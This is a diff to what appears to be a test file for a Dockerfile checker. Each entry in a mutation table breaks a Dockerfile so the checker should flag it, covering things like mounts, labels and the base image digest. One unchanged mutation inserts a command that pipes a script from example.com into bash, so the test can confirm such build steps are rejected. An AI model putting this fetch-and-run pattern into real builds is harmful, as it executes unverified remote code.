@@ -65,7 +65,7 @@ MUTATIONS = {
     "is not declared in stage base": GDA.replace("ARG EFA_INSTALLER\nARG", "ARG", 1),
     "is no earlier stage": GDA.replace("from=extensions", "from=wheels", 1),
     "is not in the build context": GDA.replace("source=build/checkout.sh", "source=build/check-out.sh", 1),
-    "moerl_runtime is not in the build context": GDA.replace("COPY --chmod=755 runtime/", "COPY --chmod=755 "),
+    "moerl_runtime is not in the build context": GDA.replace("source=runtime,", "source=moerl_runtime,"),
     "is called and not mounted": GDA.replace("target=/mnt/build/install-efa.sh", "target=/mnt/install_efa.sh"),
     "no label holds NCCL": GDA.replace('      io.moerl.nccl="${NCCL}" \\\n', ""),
     "is not built on the base image by its digest": GDA.replace("@${BASE_DIGEST} AS base", " AS base"),
@@ -79,9 +79,13 @@ MUTATIONS = {
         "pip install --no-cache-dir --no-deps --force-reinstall /wheels/deep_ep-*.whl", "/mnt/build/install-trainer.sh"
     )
     .replace("/mnt/build/X", "pip install /wheels/deep_ep-*.whl #"),
-    "the runtime is copied before": GDA.replace(
+    "the runtime is not installed once": GDA.replace(
         "FROM base AS image\n", "FROM base AS image\nCOPY runtime/moerl_runtime /opt/moerl/moerl_runtime\n"
     ),
+    "the runtime is not installed once, after": GDA.replace(
+        "dependencies /mnt/runtime", "package /mnt/runtime /opt/moerl"
+    ),
+    "not installed once": GDA.replace("install-runtime.sh package", "install-runtime.sh dependencies"),
     "runs what it downloads": GDA.replace(
         "ENTRYPOINT []", "RUN curl -fsSL https://example.com/x | bash\nENTRYPOINT []"
     ),
